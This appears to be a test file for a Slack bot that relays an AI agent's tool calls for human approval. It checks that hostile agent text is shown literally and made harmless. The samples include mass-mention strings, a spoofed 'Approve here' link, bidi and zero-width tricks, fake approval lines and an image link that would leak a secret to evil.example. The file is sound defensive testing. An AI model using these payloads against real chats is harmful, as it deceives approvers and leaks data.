"""Texts that want to be more than text: mentions, links, hidden characters, floods."""

import pytest

from bot.domain.literal import visible
from bot.llm.scripted import call, say
from bot.playground.places import Post
from bot.playground.shapes import as_dict, as_list
from bot.playground.workspace import Workspace
from bot.slack.views.answer import safe_markdown
from tests.slack.lab import Lab

HOSTILE = [
    pytest.param("<!channel> <!here> <@U0APPROVER> <!subteam^S0ONCALL>", id="mentions"),
    pytest.param("`` ` `` <https://evil.example|Approve here> *x*", id="a backtick and a link"),
    pytest.param("\u202egnp.exe \u200b\u2066x\u2069 \ufeff", id="bidi and zero width"),
    pytest.param(":rocket: &lt;!channel&gt; &amp;", id="emoji codes and entities"),
    pytest.param("a\nApproved by @cto\n\ttool  other", id="lines that look like ours"),
    pytest.param("x" * 10_000, id="ten thousand characters"),
]


def _interpreted(value: object) -> list[str]:
    """Every string Slack would read markup in."""
    found: list[str] = []
    if (mapping := as_dict(value)) is not None:
        if mapping.get("type") in {"mrkdwn", "markdown"}:
            found.append(str(mapping["text"]))
        value = list(mapping.values())
    for inner in as_list(value) or []:
        found += _interpreted(inner)
    return found


def _assert_harmless(post: Post) -> None:
    for text in [post.text, *_interpreted(post.blocks)]:
        for token in ("<!channel", "<!here", "<@U0APPROVER> ", "<https:", "\u202e", "\u200b"):
            assert token not in text


def _assert_literal(post: Post, hostile: str) -> None:
    """On a card nothing of it stands where Slack reads markup; in an answer it may, made harmless."""
    _assert_harmless(post)
    assert not any(hostile in text for text in [post.text, *_interpreted(post.blocks)])


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("transport", ["socket"], indirect=True)
async def test_hostile_arguments_words_and_results_are_shown_literally(
    lab: Lab, slack: Workspace, hostile: str
) -> None:
    args = {"path": str(lab.marks), "text": hostile}
    async with lab.bot([call("mark", args, text=hostile), say(f"I say {hostile}")]):
        asked = await slack.requester.mentions_bot("write")
        label = "Review…" if len(hostile) > 5000 else "Approve"
        card = await asked.thread.card_with(label)
        _assert_literal(card, hostile)
        assert "\u202e" not in card.shown
        await slack.approver.clicks(label, in_=card)
        if label == "Review…":
            sheet = await slack.approver.modal("Review")
            assert sheet.shown.replace("\n", "").count("x" * 2800) >= 3
            await slack.approver.submits(sheet)
        done = await card.shows("written")
        _assert_literal(done, hostile)
        answer = await asked.thread.message_containing("I say")
        _assert_harmless(answer)
        for method in ("chat.postMessage", "chat.update"):
            for sent in slack.calls(method):
                assert (sent.args["parse"], sent.args["link_names"]) == ("none", False)
        assert all(sent.args["unfurl_links"] is False for sent in slack.calls("chat.postMessage"))


@pytest.mark.parametrize("transport", ["socket"], indirect=True)
async def test_what_does_not_fit_on_the_card_is_seen_whole_before_it_can_be_approved(
    lab: Lab, slack: Workspace
) -> None:
    text = "".join(f"{number:05d} " for number in range(2000))
    async with lab.bot([call("mark", {"path": str(lab.marks), "text": text, "count": 2}), say("ok")]):
        asked = await slack.requester.mentions_bot("write")
        card = await asked.thread.card_with("Review…")
        assert "Approve" not in card.buttons
        assert "Only one" not in card.buttons
        # One long value does not push the others out of sight.
        assert "count  2" in card.shown
        assert "characters)" in card.shown
        await slack.approver.clicks("Review…", in_=card)
        sheet = await slack.approver.modal("Review")
        assert visible(text)[:2800] in sheet.shown
        assert "01999 " in sheet.shown
        await slack.approver.submits(sheet, {"What to approve": "Only one"})
        await card.shows("1 written")
        assert lab.marked() == [text]


@pytest.mark.parametrize("transport", ["socket"], indirect=True)
async def test_what_fits_nowhere_cannot_be_approved_in_slack(lab: Lab, slack: Workspace) -> None:
    async with lab.bot([call("mark", {"path": str(lab.marks), "text": "y" * 300_000})]):
        asked = await slack.requester.mentions_bot("write")
        card = await asked.thread.card_with("Reject…")
        assert card.buttons == ["Explain", "Reject…"]
        assert "askfirst runs resume" in card.shown


@pytest.mark.parametrize("transport", ["socket"], indirect=True)
async def test_many_arguments_each_keep_their_place(lab: Lab, slack: Workspace) -> None:
    options = {"question": "q" * 4000, "options": [f"<!here> option {n}" for n in range(20)]}
    async with lab.bot([call("ask_human", options), say("ok")]) as running:
        asked = await slack.requester.mentions_bot("ask me")
        await slack.called("chat.postMessage")
        card = await asked.thread.message_containing("Question")
        _assert_literal(card, "<!here>")
        await slack.requester.selects("<!here> option 7", from_="af:choose", in_=card)
        await asked.thread.message_containing("ok")
        assert await running.results() == [("ok", "<!here> option 7")]


@pytest.mark.parametrize(
    ("markdown", "safe"),
    [
        ("**bold** `code` | table |", "**bold** `code` | table |"),
        ("[Approve here](https://evil.example)", "Approve here (https://evil.example)"),
        ("![pixel](https://evil.example/?q=secret)", "pixel (https://evil.example/?q=secret)"),
        ('[a](https://evil.example "title")', "a (https://evil.example)"),
        ("[ref]: https://evil.example", "ref: https://evil.example"),
        (
            "<https://evil.example|Approve> <!channel>",
            "&lt;https://evil.example|Approve&gt; &lt;!channel&gt;",
        ),
        ("<@U0APPROVER>", "&lt;@U0APPROVER&gt;"),
        ("a\u202eb", "a\\u{202e}b"),
    ],
)
def test_markdown_of_an_agent_loses_what_could_reach_out_of_it(markdown: str, safe: str) -> None:
    assert safe_markdown(markdown) == safe
